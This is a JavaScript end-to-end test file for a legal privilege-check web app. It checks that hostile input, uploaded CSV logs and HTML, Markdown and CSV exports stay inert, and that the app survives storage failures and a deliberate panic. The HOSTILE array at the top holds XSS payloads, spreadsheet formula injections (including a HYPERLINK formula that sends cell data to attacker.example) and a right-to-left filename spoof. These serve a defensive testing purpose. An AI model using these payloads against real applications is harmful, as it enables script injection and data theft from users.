// End-to-end: hostile text in every field and in a log, and faults of the tab's storage.

import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { harness, openApp, outcome, violations, show } from "./support.mjs";

const env = harness();

const HOSTILE = [
  "<script>window.__pwned = 'script'</script>",
  "\"><img src=x onerror=\"window.__pwned = 'img'\">",
  "javascript:window.__pwned='url'",
  "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
  "+SUM(1,2)", "-2+3", "@cmd",
  "\u202Egnp.exe\u202C right-to-left override",
  "x".repeat(1024 * 1024),
];

test("hostile text in every field is shown as text, never run, and nothing is sent", async () => {
  const { context, page, log } = await openApp(env.browser, env.server.url);
  await page.waitForLoadState("networkidle");
  const loaded = log.requests.length;
  await page.getByRole("button", { name: "Load the Melamine example" }).click();
  await show(page, "documents");
  for (const text of HOSTILE) {
    for (const id of ["#matter-court", "#matter-case_name", "#matter-court_number", "#matter-document", "#matter-description"]) {
      await page.fill(id, text);
    }
    await page.locator(".documents details").first().evaluate((d) => { d.open = true; });
    const shown = await page.locator('.document-commands[data-document="memorandum"] article.document').textContent();
    if (text.length < 1000) assert.ok(shown.includes(text.slice(0, 40)) || shown.includes(text.trim().slice(0, 20)), `shown as text: ${text.slice(0, 30)}`);
    assert.equal(await page.evaluate(() => window.__pwned), undefined, text.slice(0, 40));
  }
  // The markup went nowhere as markup.
  assert.equal(await page.locator(".documents img").count(), 0);
  assert.equal(await page.locator(".documents script").count(), 0);
  // Exported HTML escapes it all.
  await page.fill("#matter-description", HOSTILE[1]);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.locator('.document-commands[data-document="memorandum"]').getByRole("button", { name: "Download HTML" }).click(),
  ]);
  const html = await readFile(await download.path(), "utf8");
  assert.ok(!html.includes("<img"), "exported HTML has no live markup");
  assert.ok(html.includes("&lt;img src=x onerror="));
  assert.equal(await outcome(page), "protective_order_granted");
  assert.deepEqual(log.requests.slice(loaded).filter((u) => !u.startsWith("blob:")), []);
  assert.deepEqual(await violations(page), []);
  await context.close();
});

test("hostile log cells are shown as text, and exported CSV neutralises formulas", async () => {
  const { context, page } = await openApp(env.browser, env.server.url);
  await show(page, "log");
  const rows = ["Entry ID,Description,Privilege Asserted"];
  HOSTILE.slice(0, 8).forEach((text, i) => rows.push(`"${text.replaceAll('"', '""')}","${text.replaceAll('"', '""')} memo on the injury finding",DPP`));
  await page.setInputFiles("#open-log", { name: "hostile.csv", mimeType: "text/csv", buffer: Buffer.from(rows.join("\n")) });
  await page.waitForSelector(".log-counts button");
  await page.locator(".log-row button.link").first().click();
  await page.waitForSelector(".log-entry");
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.equal(await page.locator(".log-review img").count(), 0);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download results (CSV)" }).click(),
  ]);
  const csv = await readFile(await download.path(), "utf8");
  for (const line of csv.split(/\r?\n/).slice(1).filter(Boolean)) {
    assert.doesNotMatch(line, /^[=+\-@]/, line.slice(0, 40));
  }
  assert.match(csv, /'=HYPERLINK/);
  assert.deepEqual(await violations(page), []);
  await context.close();
});

test("hostile cells in every column of the log review and in the letter stay inert", async () => {
  const { context, page, log } = await openApp(env.browser, env.server.url);
  await show(page, "log");
  await page.waitForLoadState("networkidle");
  const loaded = log.requests.length;
  const cell = (text) => `"${text.replaceAll('"', '""')}"`;
  const heading = ["Bates Begin", "Bates End", "Date", "From", "To", "CC", "BCC", "Doc Type", "Description", "Privilege Asserted", "Basis", "Withheld/Redacted"];
  const rows = [heading.join(",")];
  HOSTILE.forEach((text, i) => {
    // The 1 MB string goes in the description only; every other cell is hostile but short.
    const short = text.length > 1000 ? "x".repeat(200) : text;
    rows.push([`${short}-${i}`, short, "2021-07-12", short, short, short, short, short, `${text} legal advice on the penalty`,
      `Attorney-Client Privilege; ${short}`, short, short].map(cell).join(","));
  });
  await page.setInputFiles("#open-log", { name: "hostile-columns.csv", mimeType: "text/csv", buffer: Buffer.from(rows.join("\r\n")) });
  await page.waitForSelector(".log-counts button", { timeout: 30000 });
  // Every entry opened in turn: the claims, findings and labels show the cells as text.
  const entries = await page.locator(".log-row button.link").count();
  assert.ok(entries >= 5, `${entries} entries drawn`);
  for (let i = 0; i < entries; i++) {
    await page.locator(".log-row button.link").nth(i).click();
    await page.waitForSelector(".log-entry .log-claim");
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
  }
  assert.match(await page.textContent(".log-mapping"), /Withheld\/Redacted/);
  assert.equal(await page.locator(".log-review img, .log-review script").count(), 0);
  // The letter, in both forms: the markup escaped, nothing live.
  const [html] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download meet-and-confer letter (HTML)" }).click(),
  ]);
  const letter = await readFile(await html.path(), "utf8");
  assert.ok(!/<img|<script>window/.test(letter), "the HTML letter has no live markup");
  assert.ok(letter.includes("&lt;img src=x onerror="), "the HTML letter shows the markup as text");
  const [markdown] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download meet-and-confer letter (Markdown)" }).click(),
  ]);
  const md = await readFile(await markdown.path(), "utf8");
  assert.ok(!md.includes("<script>window"), "the Markdown letter escapes markup");
  assert.ok(md.length < 4 * 1024 * 1024, `the letter stays bounded (${md.length} bytes)`);
  // The results CSV: new columns neutralised too.
  const [csv] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Download results (CSV)" }).click(),
  ]);
  for (const line of (await readFile(await csv.path(), "utf8")).split(/\r?\n/).slice(1).filter(Boolean)) {
    assert.doesNotMatch(line, /^[=+\-@]/, line.slice(0, 40));
  }
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(log.requests.slice(loaded).filter((u) => !u.startsWith("blob:")), []);
  assert.deepEqual(await violations(page), []);
  await context.close();
});

test("a corrupt kept matter: the app starts, says so, and works", async () => {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(() => {
    if (!sessionStorage.getItem("corrupted")) {
      sessionStorage.setItem("privcheck.matter.v1", "{\"format\":\"privcheck-matter\",\"version\":0}");
      sessionStorage.setItem("corrupted", "1");
    }
  });
  await page.goto(env.server.url);
  await page.waitForSelector(".notice.error");
  assert.match(await page.textContent(".notice.error"), /The matter kept in this tab could not be read \(version: given 0; allowed: 1/);
  await page.getByRole("button", { name: "Load the Melamine example" }).click();
  assert.equal(await outcome(page), "protective_order_granted");
  await context.close();
});

test("storage the browser refuses outright: the app starts, says so, and works", async () => {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  await page.addInitScript(() => {
    Object.defineProperty(window, "sessionStorage", {
      get() { throw new DOMException("The operation is insecure.", "SecurityError"); },
    });
  });
  await page.goto(env.server.url);
  await page.waitForSelector(".notice.error");
  assert.match(await page.textContent(".notice.error"), /This tab's storage (could not be read|refused the matter) \(the browser refuses this page session storage\)/);
  await page.getByRole("button", { name: "Load the Melamine example" }).click();
  assert.equal(await outcome(page), "protective_order_granted");
  await page.locator("#q-personal_review-no").check();
  assert.equal(await outcome(page), "claim_defective");
  assert.match(await page.textContent(".notice.error"), /storage refused the matter .*the answers are still here/);
  assert.deepEqual(errors, []);
  await context.close();
});

test("storage that refuses to keep the matter: the answers stay and the app says so", async () => {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(() => {
    Storage.prototype.setItem = function () {
      throw new DOMException("The quota has been exceeded.", "QuotaExceededError");
    };
  });
  await page.goto(env.server.url);
  await page.waitForSelector(".outcome[data-outcome]");
  await page.getByRole("button", { name: "Load the Melamine example" }).click();
  await page.waitForSelector(".notice.error");
  assert.match(await page.textContent(".notice.error"), /storage refused the matter .*the answers are still here/);
  await page.locator("#q-personal_review-no").check();
  assert.equal(await outcome(page), "claim_defective");
  assert.equal(await page.inputValue("#matter-case_name"), "Melamine Chemicals, Inc. v. United States");
  await context.close();
});

test("a panic in the running app shows the panel, its diagnostic copies, and a reload restores the matter", async () => {
  const { context, page } = await openApp(env.browser, env.server.url, { permissions: ["clipboard-read", "clipboard-write"] });
  await page.getByRole("button", { name: "Load the Melamine example" }).click();
  await page.locator("#q-affidavit_refuted-yes").check();
  await show(page, "documents");
  await page.fill("#matter-description", "Staff memo kept through a panic, marker P4N1");
  assert.equal(await outcome(page), "in_camera_inspection");
  assert.equal(await page.isVisible("#panic"), false);
  // The running app's own module: the one the boot script loaded.
  const thrown = await page.evaluate(async () => {
    const tag = document.querySelector("script[data-privcheck-boot]");
    const base = new URL(tag.dataset.base, document.baseURI);
    const bindings = await import(new URL(tag.dataset.js, base).href);
    try {
      bindings.diagnostics_panic();
      return null;
    } catch (error) {
      return String(error);
    }
  });
  assert.match(String(thrown), /unreachable|RuntimeError/, "the panic stopped the call");
  await page.waitForSelector("#panic", { state: "visible" });
  const diagnostic = await page.textContent("#panic-detail");
  assert.match(diagnostic, /^privcheck \d+\.\d+\.\d+: .*a panic raised on purpose by diagnostics_panic\(\)/s);
  assert.match(await page.textContent("#panic"), /Your matter is kept in this tab/);
  await page.getByRole("button", { name: "Copy the diagnostic" }).click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), diagnostic);
  // The matter survives: a reload brings back every answer and field.
  await page.reload();
  await page.waitForSelector(".outcome[data-outcome=in_camera_inspection]", { state: "attached" });
  assert.equal(await page.inputValue("#matter-description"), "Staff memo kept through a panic, marker P4N1");
  assert.equal(await page.isChecked("#q-affidavit_refuted-yes"), true);
  assert.equal(await page.isVisible("#panic"), false);
  await context.close();
});
